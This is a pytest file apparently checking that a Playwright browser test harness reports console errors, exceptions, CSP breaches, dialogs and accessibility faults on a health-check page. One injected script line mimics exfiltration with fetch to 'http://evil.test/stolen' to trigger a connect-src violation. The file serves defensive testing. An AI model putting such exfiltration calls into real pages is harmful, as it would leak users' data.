"""The harness notices what it is for: a page that breaks every rule is shown to it, and every breach is told."""

import pytest
from playwright.sync_api import Browser

from tests.browser.axe import violations
from tests.browser.demo import Demo
from tests.browser.visit import Visit

BREACHES = ("console: a line", "exception: thrown", "csp: connect-src http://evil.test", "csp: img-src", "dialog: hello")

pytestmark = pytest.mark.slow


def test_a_page_that_misbehaves_is_told_of(browser: Browser, demo: Demo) -> None:
    """The net of all other tests here has no hole."""
    with pytest.raises(AssertionError) as told:
        misbehave(browser, demo)
    assert [breach for breach in BREACHES if breach not in str(told.value)] == []


def misbehave(browser: Browser, demo: Demo) -> None:
    with Visit(browser, demo.admin) as visit:
        page = visit.open("/healthz")
        page.evaluate("console.error('a line')")
        page.evaluate("setTimeout(() => { throw new Error('thrown') })")
        page.evaluate("fetch('http://evil.test/stolen').catch(() => 0)")
        page.evaluate("document.body.appendChild(new Image()).src = 'http://127.0.0.2/pixel'")
        page.evaluate("alert('hello')")
        visit.until(lambda: all(any(breach in line for line in visit.offences) for breach in BREACHES))


def test_what_a_test_allows_is_no_breach(browser: Browser, demo: Demo) -> None:
    with Visit(browser, demo.admin) as visit:
        visit.allow("a line")
        visit.open("/healthz").evaluate("console.error('a line')")
    assert [line for line in visit.offences if "favicon" not in line] == ["console: a line ()"]


def test_axe_sees_a_button_without_a_name_and_a_pale_text(browser: Browser, demo: Demo) -> None:
    with Visit(browser, demo.admin) as visit:
        page = visit.open("/healthz")
        page.evaluate("document.body.appendChild(document.createElement('button'))")
        page.evaluate(
            "Object.assign(document.body.appendChild(document.createElement('p')), { textContent: 'pale' }).style.color = '#ddd'"
        )
        assert {"button-name", "color-contrast"} <= {line.partition(":")[0] for line in violations(page)}
